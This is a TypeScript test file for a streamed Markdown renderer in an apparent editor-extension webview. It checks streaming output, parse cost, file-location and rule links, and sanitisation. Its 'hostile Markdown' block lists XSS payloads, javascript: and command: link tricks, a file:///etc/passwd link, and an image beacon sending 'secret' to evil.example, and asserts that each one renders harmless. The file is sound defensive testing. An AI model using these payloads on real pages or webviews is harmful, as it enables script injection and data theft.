import assert from 'node:assert/strict';
import './dom';
import { markdown } from '../../src/webview/markdown/renderer';
import { sanitize } from '../../src/webview/markdown/sanitize';
import { MarkdownStream } from '../../src/webview/markdown/stream';
import { compareRandomTexts } from './random-markdown';
import { streamed, whole, withoutSections } from './streamed';

/** How many characters the parser is given while something runs. */
function counted(run: () => void): number {
  let characters = 0;
  const parse = markdown.parse.bind(markdown);
  markdown.parse = (text, environment) => {
    characters += text.length;
    return parse(text, environment);
  };
  try {
    run();
  } finally {
    markdown.parse = parse;
  }
  return characters;
}

const texts = {
  'an answer': `In src/a.js:3 I see one thing.

## SELECT * in code

**warning** · \`database/select-star\`

### Issue

\`src/a.js:3\` — It reads \`*\`.

\`\`\`js
const a = 1;

## no heading
\`\`\`

### Root cause

Text *with* emphasis.

### Trade-off

1. one

2. two
   - nested

   more

| a | b |
|---|---|
| 1 | 2 |

> quoted
lazily
`,
  'a loose list whose next item looks like a paragraph': '1. a\n\n2. b\n\n10. c\n\ntext',
  'a list that goes on and on':
    '1. a\n2. b\n   - x\n   - y\n\n     more\n3. c\n\n   ```js\n   d\n   ```\n4. e\nlazy\n5. f\n* other\n+ third\n\ntext\n- g\n- h\n---\n- i\n- j',
  'lists that are no lists': '- a\n- b\n===\n\n- c\n    - d\n     - e\n - f\n-\n- g\n-h\n',
  'a table that goes on':
    'text\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n| `3` | 4 | 5 |\n| 6\n| 7 | **8** |\n\n| x |\n|---|\n| y |\n| z |\n> q\n',
  'a setext heading': 'Title\n===\n\ntext\n---\n',
  'an open fence': 'text\n\n```sql\nSELECT 1\n\n## x',
  'tilde fences and longer fences': '~~~\na\n```\n~~~\n\n````\n```\n````\nend',
  'indented code': 'a\n\n    code\n\n    more\n\nb',
  'a list, then indented code': '- a\n\n      code\n\n- b\n\nc',
  'html that is text': '<div>\n\n**a**\n\n</div>\n\n<b>x',
  'windows line ends': 'a\r\n\r\n- b\r\n- c\r\n\r\nd',
  'nothing but space': '\n\n  \n',
  'definitions, which are left alone': '[x]: http://a.b\n\nsee [x]\n',
};

describe('streamed Markdown', () => {
  for (const [name, text] of Object.entries(texts)) {
    it(`is the same in any pieces: ${name}`, () => {
      const once = streamed([text]);
      assert.equal(streamed([...text]), once, 'letter by letter');
      const stride = Math.ceil(text.length / 60);
      for (let cut = 1; cut < text.length; cut += stride) {
        assert.equal(streamed([text.slice(0, cut), text.slice(cut)]), once, `cut at ${cut}`);
      }
    });

    it(`is the same as rendered whole: ${name}`, () => {
      assert.equal(withoutSections(streamed([...text])), withoutSections(whole(text)).replace(/\r/g, ''));
    });
  }

  it('is the same for random texts in random pieces', () => compareRandomTexts(3, 20));

  it('leaves blocks alone that are over', () => {
    const root = document.createElement('div');
    const stream = new MarkdownStream(root);
    stream.append('First.\n\nSecond\n');
    const [first, second] = root.children;
    stream.append('goes on.\n\nThird.');
    assert.ok(root.children[0] === first);
    assert.ok(root.children[1] !== second);
    assert.match(root.textContent ?? '', /Second\ngoes on\./);
  });

  it('parses no more than what it is given and the block that is open', () => {
    const parsed = counted(() => {
      const stream = new MarkdownStream(document.createElement('div'));
      for (let i = 0; i < 100; i++)
        for (const piece of ['Paragraph ', String(i), ' ends.\n\n']) stream.append(piece);
      stream.end();
    });
    // Each paragraph is some 20 characters and comes in 3 pieces. Were all text parsed for each piece, it would be 300 times 1000.
    assert.ok(parsed < 100 * 20 * 12, `${parsed} characters parsed`);
  });

  it('leaves the items of a list and the rows of a table alone that are over', () => {
    const list = document.createElement('div');
    const items = new MarkdownStream(list);
    items.append('- first\n- second\n');
    const first = list.querySelector('li');
    items.append('- third\n\n- fourth');
    assert.ok(list.querySelector('li') === first);
    assert.equal(list.querySelectorAll('ul').length, 1);
    assert.equal(list.querySelectorAll('li').length, 4);
    const table = document.createElement('div');
    const rows = new MarkdownStream(table);
    rows.append('| a |\n|--:|\n| 1 |\n| 2 |\n');
    const row = table.querySelector('tbody tr');
    rows.append('| 3 |\n| 4 |');
    assert.ok(table.querySelector('tbody tr') === row);
    assert.equal(table.querySelectorAll('table').length, 1);
    assert.equal(table.querySelectorAll('tbody tr').length, 4);
  });

  for (const [what, begin, more] of [
    ['paragraphs', '', 'Some words, and *more* of them.\n\n'],
    ['items of a list', '', '- An item with `src/a.ts:12` in it.\n'],
    ['rows of a table', '| a | b |\n|---|---|\n', '| some | words |\n'],
  ] as const)
    it(`costs twice as much for twice as many ${what}`, () => {
      const costOf = (count: number): number =>
        counted(() => {
          const stream = new MarkdownStream(document.createElement('div'));
          stream.append(begin);
          for (let i = 0; i < count; i++) stream.append(more);
        });
      assert.ok(costOf(80) < 2.2 * costOf(40), `${costOf(40)}, ${costOf(80)}`);
    });

  it('puts the five parts into sections', () => {
    const root = document.createElement('div');
    const stream = new MarkdownStream(root);
    stream.append('### Issue\n\na\n\n### Trade-off\n\nb\n\n## Next\n\nc');
    stream.end();
    const sections = [...root.children].map((child) => child.className || child.tagName);
    assert.deepEqual(sections, ['part part-issue', 'part part-trade-off', 'H2', 'P']);
  });
});

describe('places', () => {
  const links = (text: string): string[] => {
    const root = document.createElement('div');
    root.innerHTML = streamed([text]);
    return [...root.querySelectorAll<HTMLElement>('.place')].map((link) => link.dataset.place ?? '');
  };

  for (const [text, expected] of [
    ['see `src/a.ts:12`', ['src/a.ts:12']],
    ['see src/a.ts:12-30, and b.sql:3.', ['src/a.ts:12-30', 'b.sql:3']],
    ['`app/[id]/my page.tsx:4–9`', ['app/[id]/my page.tsx:4–9']],
    ['`src/routes/tickets.js`', ['src/routes/tickets.js']],
    ['`res.json` and `a.js` and tickets.js', []],
    ['`12:30` http://x.y/a.js:80 C:\\a.js:3x', []],
    ['[a.js:1](https://x.y)', []],
    ['**src/a.ts:1**', ['src/a.ts:1']],
  ] as const) {
    it(`in "${text}": ${expected.join(', ') || 'none'}`, () => assert.deepEqual(links(text), expected));
  }
});

describe('rules', () => {
  it('are links by their ids', () => {
    assert.match(streamed(['`database/select-star`']), /data-rule="database\/select-star"/);
    assert.doesNotMatch(streamed(['`src/tickets` `a/b` `database/select-star.js`']), /data-rule/);
  });
});

describe('hostile Markdown', () => {
  const attacks = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '![beacon](https://evil.example/?q=secret)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '[a](javascript:alert(1))',
    '[a](JaVaScRiPt:alert(1))',
    '[a](java\nscript:alert(1))',
    '[a](&#106;avascript:alert(1))',
    '[a](command:workbench.action.terminal.new)',
    '[a](vscode://x/y)',
    '[a](file:///etc/passwd)',
    '[a](data:text/html,<script>alert(1)</script>)',
    '<javascript:alert(1)>',
    '<command:x>',
    '[a](https://ok.example "onmouseover=alert(1)")',
    '[a](https://ok.example" onmouseover="alert(1))',
    '```js" onclick="alert(1)\nx\n```',
    '```<script>\n</code></pre><script>alert(1)</script>\n```',
    '`a.js:1" onclick="alert(1)`',
    '`<img src=x onerror=alert(1)>/a.js:1`',
    '<iframe src=https://evil.example></iframe>',
    '<svg onload=alert(1)>',
    '<style>*{background:url(https://evil.example)}</style>',
    '<a href="javascript:alert(1)">x</a>',
    '| a |\n|:-:|\n| <b onclick=alert(1)> |',
    '[x]: javascript:alert(1)\n\n[x]',
    '<form action=https://evil.example><input name=a></form>',
    '<button formaction=https://evil.example>x</button>',
  ];

  for (const attack of attacks) {
    for (const pieces of [[attack], [...attack]]) {
      it(`is harmless, in ${pieces.length === 1 ? 'one piece' : 'letters'}: ${JSON.stringify(attack)}`, () => {
        const root = document.createElement('div');
        const stream = new MarkdownStream(root);
        for (const piece of pieces) {
          stream.append(piece);
          assertHarmless(root);
        }
        stream.end();
        assertHarmless(root);
      });
    }
  }

  it('is harmless also when the renderer lets it through', () => {
    const root = document.createElement('div');
    for (const attack of attacks) root.append(sanitize(attack));
    root.append(sanitize('<span class="place" data-place="a.js:1" onclick="alert(1)" style="x">a</span>'));
    assertHarmless(root);
  });

  it('keeps ordinary links, and names pictures', () => {
    assert.match(streamed(['[a](https://ok.example/x)']), /<a href="https:\/\/ok\.example\/x">a<\/a>/);
    assert.match(streamed(['![a chart](https://x.y/z.png)']), /\[picture left out: a chart\]/);
  });

  const tags =
    'A BLOCKQUOTE BR CODE DEL EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE S SECTION SPAN STRONG TABLE TBODY TD TH THEAD TR UL WBR'.split(
      ' ',
    );
  const attributes = [
    'class',
    'data-place',
    'data-rule',
    'href',
    'start',
    'title',
    'role',
    'tabindex',
    'aria-label',
  ];

  function assertHarmless(root: HTMLElement): void {
    for (const element of root.querySelectorAll('*')) {
      assert.ok(tags.includes(element.tagName), element.outerHTML);
      for (const { name } of element.attributes) assert.ok(attributes.includes(name), element.outerHTML);
      const href = element.getAttribute('href');
      if (href !== null) assert.match(href, /^https?:\/\//);
    }
  }
});
